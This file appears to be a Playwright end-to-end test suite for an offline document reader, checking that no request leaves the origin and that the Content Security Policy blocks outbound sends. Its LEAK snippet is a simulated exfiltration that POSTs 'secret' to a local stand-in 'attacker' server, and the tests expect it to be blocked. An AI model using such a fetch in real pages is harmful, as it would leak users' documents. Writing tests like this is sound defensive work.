"""No document leaves the machine: nothing is asked of anyone else, and nothing could be."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser

from e2e.app import App
from e2e.conftest import visitor
from e2e.documents import letters, locked, scanned

LEAK = """(url) => new Promise((resolve) => {
  addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
  const letter = { method: "POST", body: "secret", mode: "no-cors" };
  fetch(url, letter).then(() => resolve("sent"), () => {});
})"""


class Elsewhere(BaseHTTPRequestHandler):
    """Somebody who would like to have the document."""

    heard: list[str]

    def do_POST(self) -> None:
        self.heard.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    heard: list[str] = []
    handler = type("Handler", (Elsewhere,), {"heard": heard})
    with HTTPServer(("127.0.0.1", 0), handler) as other:
        thread = threading.Thread(target=other.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        yield f"http://127.0.0.1:{other.server_port}/", heard
        other.shutdown()
        thread.join()


def test_no_request_leaves_the_origin_and_nothing_is_complained_about(browser: Browser, site: str):
    with visitor(browser, site) as app:
        app.start()
        app.wait_for_offline()
        begun = len(app.requests)
        app.read(letters())
        app.read(scanned(2))
        app.join_paragraphs.check()
        app.finished(scanned(2))
        app.copy.click()
        app.choose(locked())
        app.expect_phase("asking")
        abroad = {urlsplit(url).netloc for url in app.requests} - {"", urlsplit(site).netloc}
        assert abroad == set()
        assert app.requests[begun:] == [], "reading a document takes nothing from the network"
        assert app.complaints == []


def test_the_policy_stops_what_page_and_worker_would_send(
    app: App, elsewhere: tuple[str, list[str]]
):
    url, heard = elsewhere
    assert app.page.evaluate(LEAK, url) == "connect-src"
    assert app.worker().evaluate(LEAK, url) == "connect-src"
    assert heard == []


def test_the_policy_in_the_page_is_enough_where_a_host_sends_none(
    browser: Browser, site: str, elsewhere: tuple[str, list[str]]
):
    url, heard = elsewhere
    with visitor(browser, site, service_workers="block") as app:

        def bare(route, request):
            answer = route.fetch()
            headers = {k: v for k, v in answer.headers.items() if k != "content-security-policy"}
            route.fulfill(response=answer, headers=headers)

        app.page.context.route("**/*", bare)
        app.start()
        assert app.page.evaluate(LEAK, url) == "connect-src"
        assert app.worker().evaluate(LEAK, url) == "connect-src"
        assert heard == []
